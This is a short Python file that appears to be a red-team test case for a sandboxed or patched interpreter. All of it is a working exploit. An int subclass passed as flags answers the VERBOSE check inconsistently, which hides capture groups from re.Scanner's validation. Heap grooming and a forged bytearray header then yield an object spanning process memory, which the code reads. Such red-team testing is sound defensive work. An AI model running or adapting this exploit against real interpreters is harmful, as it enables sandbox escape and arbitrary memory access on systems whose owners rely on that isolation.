# technique: re.Scanner's check parsed each phrase with the caller's flags, then the real __init__ parsed it again: an int subclass answering `& VERBOSE` only the first time hid four groups from the check (case 576 reopened; red-team pass 76)
# expect: any
import re
class F(int):
    n = 0
    def __and__(self, other):
        if other == 64:                      # re.VERBOSE: verbose for the wrapper's parse only
            F.n += 1
            return 64 if F.n == 1 else 0
        return int.__and__(self, other)
    __rand__ = __and__
BA_TYPE = 0x1001d60
def q(v): return v.to_bytes(8, "little")
fake = q(1 << 40) + q(BA_TYPE) + q(1 << 62) + q((1 << 62) + 1) + q(0) + q(0) + q(0) + q(0)
after = q(1 << 40) + q(BA_TYPE) + q(0) * 6
subject = b"#" + b"a" * 13 + b"b" + b"c" + fake + after
# checked in verbose mode (all a comment: no group); compiled by the real __init__ without it
lex = [(rb"#(a{13})(b)(c)((?s:.{64}))", None), (rb"x", None), (rb"y", None)]
sc = re.Scanner(lex, F(0))
victims = [[None] * 6 for i in range(400)]
hole = victims[200]; victims[200] = None; del hole
sc.scan(subject)
hit = [i for i, v in enumerate(victims) if v is not None and v[0] is not None]
out = [F.n, hit]
if hit:
    mem = victims[hit[0]][0]
    out += [type(mem).__name__, len(mem) == 1 << 62, bytes(mem[0x400000:0x400004])]
out
